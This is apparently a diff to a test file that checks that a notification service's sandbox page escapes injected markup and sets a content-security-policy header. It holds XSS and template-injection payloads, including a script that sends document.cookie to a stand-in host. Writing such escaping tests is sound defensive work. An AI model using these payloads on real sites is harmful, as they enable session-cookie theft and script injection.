@@ -14,7 +14,7 @@ import {
 } from '../../notification.rig.js';
 
 const XSS = `<img src=x onerror=alert(1)><script>fetch('//e/'+document.cookie)</script>`;
-const TEMPLATE = "\"><svg/onload=alert`1`>{{constructor.constructor('alert(1)')()}}${7*7}#{7*7}<%= 7*7 %>";
+const TEMPLATE = "\"><svg/onload=alert`1`>{{constructor.constructor('alert(1)')()}}${7*7919}#{7*7919}<%= 7*7919 %>";
 
 describe('sandbox phones, e-mail and contact methods', () => {
   let database: TestDatabase;
@@ -98,7 +98,7 @@ describe('sandbox phones, e-mail and contact methods', () => {
     const answer = await fetch(`${service.url}/sandbox`, { headers: { 'accept-language': 'zh' } });
     const html = await answer.text();
     expect(answer.headers.get('content-security-policy')).toContain("default-src 'self'");
-    expect(html).not.toMatch(/<img|<svg|<script>|\b49\b/);
+    expect(html).not.toMatch(/<img|<svg|<script>|55433/);
     expect(html).toContain(
       subject.includes('img') ? '&lt;img src=x onerror=alert(1)&gt;' : '&quot;&gt;&lt;svg/onload',
     );
